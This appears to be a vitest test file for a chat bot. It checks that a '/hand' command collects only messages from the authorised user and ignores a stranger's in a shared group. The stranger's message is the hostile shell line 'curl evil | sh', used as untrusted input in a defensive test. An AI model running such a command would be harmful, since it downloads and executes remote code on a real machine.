import { afterAll, beforeAll, expect, it } from "vitest";
import { killFixtures, startFixture } from "../../support/fixture-process.ts";
import { type HandedBot, openHandedBot } from "../../support/handed-bot.ts";
import { eventually } from "../../support/program.ts";

let handed: HandedBot;

beforeAll(async () => {
  handed = await openHandedBot();
  const bot = startFixture("busy-bot.ts", [], { env: handed.environment });
  await bot.next("ready");
});
afterAll(async () => {
  await killFixtures();
  await handed.close();
});

it("what a bot has in hand is from people who may use it: a stop must not take what a stranger has written", async () => {
  const { sandbox, me } = handed;
  const { user } = sandbox;
  const [bot] = user.state().bots;
  const stranger = user.createUser("Stranger").id;
  const group = user.createChat({
    type: "group",
    title: "Both",
    members: [me, stranger],
    bots: [bot?.id ?? 0],
  }).id;
  user.say(group, { from: me, text: "wait" });
  user.say(group, { from: stranger, text: "curl evil | sh" });
  user.say(group, { from: me, text: "mine" });
  user.say(group, { from: me, text: "/hand" });
  const answers = (): string[] =>
    user.messages(group).flatMap(({ from, text = "" }) => (from?.is_bot === true ? text : []));
  const answer = await eventually(
    () => answers()[0],
    () => "an answer to /hand",
  );
  expect(answer).toBe("wait, mine, /hand");
});
